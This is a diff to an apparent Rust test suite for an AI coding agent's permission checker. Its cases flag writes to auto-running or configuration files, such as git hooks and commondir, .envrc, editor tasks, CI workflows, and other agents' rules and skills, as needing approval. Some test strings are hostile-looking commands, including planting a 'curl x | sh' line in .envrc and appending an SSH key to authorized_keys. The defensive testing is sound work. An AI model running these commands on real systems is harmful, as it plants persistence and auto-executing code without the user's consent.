@@ -535,6 +535,84 @@ pub fn cases() -> Vec<Case> {
             Cmd("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"),
             Ask(Risk::Credentials),
         ),
+        // What moves git's configuration, or runs code later by itself.
+        case(
+            "git's common directory moved",
+            write(".git/commondir"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a worktree's own git configuration",
+            write(".git/config.worktree"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a nested repository's hook",
+            write("vendor/lib/.git/hooks/post-checkout"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a .git file naming a git directory elsewhere",
+            write("vendor/lib/.git"),
+            Ask(Risk::CodeConfig),
+        ),
+        case("an .envrc", write(".envrc"), Ask(Risk::CodeConfig)),
+        case(
+            "an editor's task run on opening the folder",
+            write(".vscode/tasks.json"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "another agent's hooks",
+            write(".claude/settings.json"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a container definition",
+            write(".devcontainer/devcontainer.json"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a CI workflow",
+            write(".github/workflows/release.yml"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "git attributes naming a filter",
+            write(".gitattributes"),
+            Ask(Risk::CodeConfig),
+        ),
+        case("submodules", write(".gitmodules"), Ask(Risk::CodeConfig)),
+        case(
+            "a project rule later agents obey",
+            write(".air/shared/rules/always.md"),
+            Ask(Risk::AirConfig),
+        ),
+        case(
+            "a skill later agents load",
+            write(".air/shared/skills/deploy/SKILL.md"),
+            Ask(Risk::AirConfig),
+        ),
+        case(
+            "a filter line by redirection",
+            Cmd("echo '* filter=x' >> .gitattributes"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "an .envrc by redirection",
+            Cmd("echo 'curl x | sh' > .envrc"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "a workflow by copy",
+            Cmd("mkdir -p .github/workflows && cp docs/readme.md .github/workflows/x.yml"),
+            Ask(Risk::CodeConfig),
+        ),
+        case(
+            "commondir by redirection",
+            Cmd("echo /tmp/evil > .git/commondir"),
+            Ask(Risk::CodeConfig),
+        ),
         // Paths follow `cd`.
         case(
             "cd /etc, then a write",
